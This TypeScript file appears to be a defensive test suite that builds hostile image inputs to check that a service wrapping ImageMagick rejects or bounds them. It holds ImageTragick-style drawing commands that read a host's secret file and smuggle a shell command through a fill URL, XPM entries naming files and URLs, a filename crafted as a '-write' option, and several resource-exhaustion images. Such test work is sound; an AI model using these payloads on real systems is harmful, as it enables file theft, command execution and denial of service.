/** Classes IM11 to IM13: pictures for ImageMagick with commands, names and counts that nothing backs. */
import { type Aim, type Attack, attackOnTo, early, from } from "./attack.ts";
import { noise, png } from "./picture-files.ts";
import { dds, icon, jp2Codestream, psd, words } from "./picture-tool-files.ts";

const attack = attackOnTo("imagemagick", ["png"]);

const latin = (text: string): Buffer => Buffer.from(text, "latin1");
const commands = ({ secretFile, url, outDir }: Aim): string =>
  `push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 'label:@${secretFile}'\nimage over 0,0 0,0 'text:${secretFile}'\nfill 'url(${url}/x"|touch "${outDir}/x)'\npop graphic-context\n`;

export const imagemagickAttacks: readonly Attack[] = [
  ...["xpm", "pcx", "miff", "xbm", "fits", "psd", "pict"].map((format) =>
    attack(
      `IM11-${format}`,
      `drawing commands that read a host's file, said to be ${format.toUpperCase()}`,
      `a.${format}`,
      commands,
      "INVALID_INPUT",
      // Its header is longer.
      { ...from(format), isEarly: format === "psd" },
    ),
  ),
  attack(
    "IM12-colours",
    "an XPM of two billion colours",
    "a.xpm",
    () => '/* XPM */\nstatic char *a[] = {\n"8 8 2000000000 30",\n"a c red",\n};\n',
    "is bounded",
  ),
  attack(
    "IM12-names",
    "an XPM whose colours are names of files and addresses",
    "a.xpm",
    ({ secretFile, url }) => `/* XPM */\nstatic char *a[] = {\n"1 1 2 1",\n"a c @${secretFile}",\n"b c ${url}/x",\n"a"};\n`,
    "is bounded",
  ),
  attack("IM12-icons", "an icon file of 65,535 icons", "a.ico", () => icon(65_535), "is bounded"),
  attack("IM12-layers", "a PSD of 32,767 layers in four gigabytes that are not there", "a.psd", () => psd(32_767), "is bounded"),
  attack("IM12-mipmaps", "a DDS of two billion mipmaps and as deep", "a.dds", () => dds(0x7fff_ffff, 0x7fff_ffff), "is bounded"),
  attack("IM12-tiles", "a JPEG 2000 of 81 million tiles", "a.j2k", () => jp2Codestream(1), "is bounded", from("j2k")),
  attack(
    "IM12-classes",
    "a MIFF with a palette of four billion colours and a profile of as many bytes",
    "a.miff",
    () =>
      noise(
        latin(
          "id=ImageMagick version=1.0\nclass=PseudoClass colors=4294967295 matte=False\ncolumns=8 rows=8 depth=8\nprofile-icc=4294967295\n\f\n:\x1a",
        ),
      ),
    "is bounded",
    from("miff"),
  ),
  attack(
    "IM12-bands",
    "a VIFF of two billion bands",
    "a.viff",
    () =>
      noise(
        Buffer.concat([
          latin("\xab\x01\x01\x03\x02\0\0\0"),
          Buffer.alloc(512),
          words("", [8, 8, 0, 0, 0, 0, 0, 1, 0, 1, 0x7fff_ffff, 1], 504),
        ]),
      ),
    "is bounded",
    from("viff"),
  ),
  attack(
    "IM12-axes",
    "a FITS file of 999 axes",
    "a.fits",
    () =>
      Buffer.from(
        [
          "SIMPLE  =                    T",
          "BITPIX  =                    8",
          "NAXIS   =                  999",
          "NAXIS1  =                    8",
          "NAXIS2  =                    8",
          "NAXIS3  =            999999999",
          "END",
        ]
          .map((card) => card.padEnd(80))
          .join("")
          .padEnd(2880),
      ),
    "is bounded",
  ),
  attack(
    "IM12-raster",
    "a Sun raster whose palette is four gigabytes",
    "a.ras",
    () => words("\x59\xa6\x6a\x95", [8, 8, 8, 64, 1, 1, 0xffff_fff0], 128),
    "is bounded",
    from("ras"),
  ),
  attack(
    "IM12-window",
    "a dump of a window with four billion colours",
    "a.xwd",
    () => words("", [100, 7, 2, 8, 8, 8, 0, 0, 32, 0, 8, 8, 8, 3, 0, 0, 0, 8, 0xffff_ffff, 0xffff_ffff, 8, 8, 0, 0, 0], 400),
    "is bounded",
    from("xwd"),
  ),
  attack(
    "IM12-vast",
    "an SGI picture of 65,535 by 65,535 dots",
    "a.sgi",
    () => Buffer.concat([Buffer.from("01da01010003ffffffff0003", "hex"), Buffer.alloc(500)]),
    "INPUT_TOO_COMPLEX",
    { ...early, ...from("sgi") },
  ),
  attack(
    "IM12-pages",
    "a fax of a thousand pages",
    "a.dcx",
    () => Buffer.concat([Buffer.from("b168de3a", "hex"), Buffer.alloc(4092, Buffer.from("00100000", "hex")), Buffer.alloc(200, 10)]),
    "is bounded",
    from("dcx"),
  ),
  attack(
    "IM13-line",
    "a picture that begins like an option and names a file",
    "-write.png",
    ({ outDir }) => Buffer.concat([png({ width: 8, height: 8 }), latin(`\n-write ${outDir}/x\n@${outDir}/y`)]),
    "converts",
    { to: ["pcx", "ico", "psd"] },
  ),
];
